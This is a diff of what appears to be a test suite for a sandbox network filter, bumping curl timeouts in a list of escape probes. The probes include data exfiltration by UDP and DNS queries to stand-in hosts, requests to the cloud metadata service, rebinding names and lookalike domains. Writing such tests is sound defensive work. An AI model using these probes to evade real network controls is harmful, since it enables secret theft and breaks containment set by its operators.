@@ -16,7 +16,7 @@ const isInside = (arrival: Arrival): boolean =>
 const datagram = (address: string, port: number): string =>
   `python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["SIGN"].encode().rjust(60), (os.environ["${address}"], ${port}))'`;
 const question = `b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in (os.environ["SIGN"] + ".exfil.outside.example").encode().split(b".")) + b"\\0\\0\\1\\0\\1"`;
-const web = (address: string): string => `curl -s -m 3 --noproxy '*' "http://$${address}/mark-$SIGN"`;
+const web = (address: string): string => `curl -s -m 8 --noproxy '*' "http://$${address}/mark-$SIGN"`;
 
 /** Past the filter. Tried in every mode that hides the network. */
 const direct: readonly (readonly [string, string, WeakeningName])[] = [
@@ -106,12 +106,12 @@ const leading: readonly Through[] = [
   ["a name that leads to an address behind 6to4", "secure six-to-four.outside.example:443", isInside],
   [
     "plain HTTP to a name that leads to the local network",
-    'curl -s -m 3 "http://insider.outside.example/mark-$SIGN"',
+    'curl -s -m 8 "http://insider.outside.example/mark-$SIGN"',
     isInside,
   ],
   [
     "plain HTTP to a name that leads to the metadata service",
-    'curl -s -m 3 "http://metadata.outside.example/mark-$SIGN"',
+    'curl -s -m 8 "http://metadata.outside.example/mark-$SIGN"',
     isInside,
   ],
   ["the metadata service's address", "secure 169.254.169.254:443", isInside],
@@ -120,7 +120,7 @@ const leading: readonly Through[] = [
   ["the same behind 6to4", "secure '[2002:a9fe:a9fe::1]:443'", isInside],
   [
     "plain HTTP to the metadata service's address",
-    'curl -s -m 3 "http://169.254.169.254/mark-$SIGN"',
+    'curl -s -m 8 "http://169.254.169.254/mark-$SIGN"',
     isInside,
   ],
   ["a public address without a name", 'secure "$OUTSIDE:443"'],
@@ -132,7 +132,7 @@ const leading: readonly Through[] = [
   ["bytes that are no TLS", 'tunnel listed.outside.example:443 "SSH-2.0-$SIGN\\\\r\\\\n"'],
   ["a tunnel to the port of ssh", 'tunnel listed.outside.example:22 "SSH-2.0-$SIGN\\\\r\\\\n"'],
   ["a tunnel to another port", "secure listed.outside.example:8443 listed.outside.example"],
-  ["plain HTTP to another port", 'curl -s -m 3 "http://listed.outside.example:8443/mark-$SIGN"'],
+  ["plain HTTP to another port", 'curl -s -m 8 "http://listed.outside.example:8443/mark-$SIGN"'],
   [
     "a Host header that says something else",
     'raw "GET http://listed.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n"',
@@ -140,7 +140,7 @@ const leading: readonly Through[] = [
   ],
   [
     "a head of 100 kB",
-    'curl -s -m 3 -H "X-Long: $(head -c 100000 /dev/zero | tr "\\\\0" a)" "http://listed.outside.example/mark-$SIGN"',
+    'curl -s -m 8 -H "X-Long: $(head -c 100000 /dev/zero | tr "\\\\0" a)" "http://listed.outside.example/mark-$SIGN"',
   ],
 ];
 
@@ -152,7 +152,7 @@ const smuggled =
 const unlisted: readonly Through[] = [
   ["ask for a name that is not listed", "secure other.outside.example:443"],
   ["have a name looked up that is not listed", "secure $SIGN.exfil.outside.example:443"],
-  ["plain HTTP to a name that is not listed", 'curl -s -m 3 "http://other.outside.example/mark-$SIGN"'],
+  ["plain HTTP to a name that is not listed", 'curl -s -m 8 "http://other.outside.example/mark-$SIGN"'],
   ["a name that ends like a listed one", "secure evillisted.outside.example:443"],
   ["a name that begins like a listed one", "secure listed.outside.example.evil.outside.example:443"],
   ["a listed name that leads to the local network", "secure private.outside.example:443", isInside],
